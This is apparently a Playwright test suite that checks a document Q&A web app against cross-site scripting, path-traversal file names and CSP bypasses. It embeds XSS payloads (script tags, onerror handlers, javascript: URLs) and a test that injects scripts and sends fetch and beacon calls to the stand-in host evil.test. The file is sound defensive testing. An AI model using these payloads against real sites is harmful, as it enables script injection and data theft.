"""Documents, names and questions that want to run or fetch something: nothing does, in no place.

Every payload that ran would call ``hit``, and every one that fetched would ask for evil.test, or for
``/hit`` here. The page's policy is a second wall: what of it is broken is told on the console, and the
first wall must hold by itself.
"""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from playwright.sync_api import Browser, Page, expect

from qa import QA
from qa.folders import own_folder
from tests.hashing_encoder import HashingEncoder
from tests.web.asking import ask, box, filter_by, search
from tests.web.conftest import free_port
from web.server import Server

pytestmark = pytest.mark.browser

PAYLOADS = (Path(__file__).parent / "hostile.txt").read_text(encoding="utf-8").strip().split("\n----\n")
NAME = "<img src=x onerror=hit('name')>&quot;'`${hit(17)}.md"
ALL = " ".join(PAYLOADS)
SENTENCE = "The walrus sings every day at noon, <img src=/hit onerror=hit(21)> and <script>hit(22)</script>."
WATCH = "window.hits = []; window.hit = (what) => window.hits.push(`${what}`); window.alert = window.hit;"


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Server]:
    """A page over documents that are hostile in every part."""
    data = tmp_path / "data"
    data.mkdir()
    front = {
        "title": f"Walrus {ALL}",
        "kind": PAYLOADS[1],
        "city": PAYLOADS[0],
        "on<img src=x onerror=hit(18)>": PAYLOADS[2],
        "url": "javascript:hit('url')",
    }
    head = "".join(f"{json.dumps(key)}: {json.dumps(value)}\n" for key, value in front.items())
    body = "\n\n".join(f"## {each}\n\n{each}" for each in PAYLOADS)
    (data / NAME).write_text(f"---\n{head}---\n\n# {ALL}\n\n{body}\n", encoding="utf-8")
    (data / "sea.md").write_text(f"---\n{head}---\n\nThe sea is green.\n\n{ALL}\n", encoding="utf-8")
    (data / "plain.md").write_text(f"# The walrus\n\n{SENTENCE}\n\n{ALL}\n", encoding="utf-8")
    (data / "page.html").write_text(f"<p>A page.</p>{''.join(PAYLOADS[:5])}", encoding="utf-8")
    (data / f"broken{NAME}.pdf").write_bytes(b"no pdf")
    kept = own_folder(data) / "results.json"
    kept.parent.mkdir(parents=True, exist_ok=True)
    measured = [
        {
            "name": ALL,
            "groups": {ALL: [{"name": ALL, "value": 0.5, "low": 0.4, "high": 0.6, "n": ALL}]},
            "wrong": [{"question": ALL}],
            "risk_coverage": [{"coverage": 0, "risk": 0, "threshold": ALL}] * 2,
        }
    ]
    kept.write_text(json.dumps({"time": ALL, "measured": measured}), encoding="utf-8")
    bot = QA.open(data, tmp_path / "index", encoder=HashingEncoder(), uploads=tmp_path / "uploads")
    served = Server(bot, port=free_port())
    yield served
    served.close()
    shutil.rmtree(tmp_path / "uploads", ignore_errors=True)


class Watched:
    """A page whose requests and complaints are noted."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.outside: list[str] = []
        self.complaints: list[str] = []
        page.context.on("request", lambda request: self._note(request.url))
        page.on("console", lambda told: self._complain(told.text))
        page.on("dialog", lambda dialog: self._complain_and_accept(dialog))

    def _note(self, url: str) -> None:
        if "evil.test" in url or "/hit" in url or url.startswith("javascript:"):
            self.outside.append(url)

    def _complain(self, text: str) -> None:
        if "Content Security Policy" in text or "Content-Security-Policy" in text:
            self.complaints.append(text)

    def _complain_and_accept(self, dialog: object) -> None:
        dialog.accept()  # type: ignore[attr-defined]

    def is_clean(self) -> bool:
        """Tell whether nothing ran, nothing was fetched, and not even the second wall was touched."""
        self.page.wait_for_timeout(150)
        hits = self.page.evaluate("window.hits")
        assert (hits, self.outside, self.complaints) == ([], [], [])
        return True


@pytest.fixture
def watched(chromium: Browser, hostile: Server) -> Iterator[Watched]:
    context = chromium.new_context(locale="en-GB", viewport={"width": 1280, "height": 900})
    context.add_init_script(WATCH)
    seen = Watched(context.new_page())
    seen.page.goto(hostile.url)
    seen.page.locator("#fn-examples").wait_for(state="attached")
    seen.page.locator(".fn-documents li").first.wait_for()
    yield seen
    context.close()


def test_what_the_bot_knows_is_told_and_does_nothing(watched: Watched) -> None:
    page = watched.page
    page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")

    expect(page.locator(".fn-documents")).to_contain_text(NAME)
    expect(page.locator(".fn-filters")).to_contain_text("<script>hit('script')</script>")
    filter_by(page, "city", PAYLOADS[0])
    expect(page.locator("#fn-chips")).to_contain_text("hit('script')")
    assert watched.is_clean()


def test_an_answer_its_evidence_and_the_whole_document_do_nothing(watched: Watched) -> None:
    page = watched.page
    turn = ask(page, "When does the walrus sing?")

    expect(turn.locator(".fn-answer")).to_contain_text("<script>hit(22)</script>")
    expect(page.locator("#fn-evidence mark").first).to_contain_text("onerror=hit(21)")
    page.locator("#fn-evidence [data-document]").first.click()
    expect(page.locator("dialog .fn-text")).to_contain_text("http://evil.test/md.png")
    page.locator("dialog [data-close]").click()
    assert watched.is_clean()


def test_a_search_the_map_and_the_figures_do_nothing(watched: Watched) -> None:
    page = watched.page
    search(page, f"walrus {PAYLOADS[1]}")
    expect(page.locator("#turn-1 li").first).to_contain_text("onerror")
    for kind in ("map", "figures"):
        page.locator(f"[data-picture={kind}]").click()
        expect(page.locator("dialog")).to_be_visible()
        page.evaluate("for (const each of document.querySelectorAll('dialog details')) each.open = true")
        assert watched.is_clean()
        page.locator("dialog [data-close]").click()


def ask_all(page: Page) -> None:
    """Ask each payload as a question, and begin a new chat with each."""
    for payload in PAYLOADS:
        question = payload.replace("\n", " ")
        expect(ask(page, question).locator(".fn-question")).to_contain_text(question[:40])
        page.get_by_role("button", name="New chat").click()
        expect(page.locator(".fn-turn")).to_have_count(0)


def test_a_question_does_nothing_wherever_it_is_shown(watched: Watched) -> None:
    page = watched.page
    ask_all(page)
    page.reload()
    expect(page.locator("#fn-chats .fn-title")).to_have_count(len(PAYLOADS))
    page.locator("#fn-chats .fn-title").first.click()

    expect(page.locator("#turn-1 .fn-question")).to_contain_text(PAYLOADS[-1][:40])
    assert watched.is_clean()


def test_a_conversations_name_its_deletion_and_a_rating_do_nothing(watched: Watched) -> None:
    page = watched.page
    ask(page, "When does the walrus sing?")
    page.get_by_role("button", name="Rename").click()
    page.locator("#fn-chats li input").fill(PAYLOADS[1][:79])
    page.keyboard.press("Enter")
    expect(page.locator("#fn-chats .fn-title")).to_contain_text("onerror")
    page.locator("[data-rate=down]").click()
    page.locator("input[name=reason]").fill(PAYLOADS[1])
    page.locator("input[name=expected]").fill(PAYLOADS[0])
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".fn-thanks")).to_be_visible()
    page.locator("#fn-chats li button").last.click()
    assert watched.is_clean()


def test_a_saved_conversation_does_nothing_where_it_is_shown(watched: Watched, chromium: Browser) -> None:
    page = watched.page
    ask(page, f"When does the walrus {PAYLOADS[1]} sing?")
    with page.expect_download() as saved:
        page.locator("#fn-chats li button").nth(2).click()
    text = Path(saved.value.path()).read_text(encoding="utf-8")
    shown = chromium.new_context().new_page()
    shown.add_init_script(WATCH)
    asked: list[str] = []
    shown.on("request", lambda request: asked.append(request.url))
    html = MarkdownIt("commonmark", {"html": True}).render(text)
    shown.set_content(f"<script>{WATCH}</script>{html}")
    shown.wait_for_timeout(300)

    assert "walrus" in html
    assert shown.evaluate("window.hits") == []
    assert [url for url in asked if "evil" in url or "hit" in url] == []
    assert shown.locator("#x, img, iframe, svg, a[href^=javascript]").count() == 0
    shown.context.close()
    assert watched.is_clean()


def test_hostile_names_of_files_and_errors_do_nothing(watched: Watched) -> None:
    page = watched.page
    page.get_by_role("button", name="Your files").click()
    names = [
        NAME,
        "<script>hit('upload')</script>.md",
        "<img src=x onerror=hit(19)>.exe",
        "../../up.md",
        "CON.md",
    ]
    files = [{"name": name, "mimeType": "text/markdown", "buffer": SENTENCE.encode()} for name in names]
    page.locator("#fn-add input[type=file]").set_input_files(files)  # type: ignore[arg-type]
    expect(page.locator("#fn-results")).to_contain_text("_CON.md: added")
    expect(page.locator(".fn-added")).to_contain_text("up.md")
    page.goto(f"{page.url.split('?')[0]}?q=walrus&filter={'<img src=x onerror=hit(20)>'}:1")
    expect(page.locator("#fn-notice .fn-error")).to_contain_text(
        "no document has this filter key", ignore_case=True
    )
    expect(box(page)).to_have_value("walrus")
    assert watched.is_clean()


def test_were_something_let_through_the_second_wall_would_hold(watched: Watched) -> None:
    page = watched.page
    page.evaluate(
        """(payloads) => {
            const box = document.createElement("div");
            box.innerHTML = payloads.join("");
            document.querySelector("#fn-chat").append(box);
            const script = document.createElement("script");
            script.textContent = "hit('injected')";
            document.body.append(script);
            const far = document.createElement("script");
            far.src = "http://evil.test/s.js";
            document.body.append(far);
            for (const link of box.querySelectorAll("a[href^=javascript]")) link.click();
            fetch("http://evil.test/f").catch(() => {});
            navigator.sendBeacon("http://evil.test/b");
            document.querySelector("#fn-chat form")?.submit();
        }""",
        PAYLOADS,
    )
    page.wait_for_timeout(500)

    assert page.evaluate("window.hits") == []
    assert watched.complaints != []
    assert page.url.startswith("http://127.0.0.1")
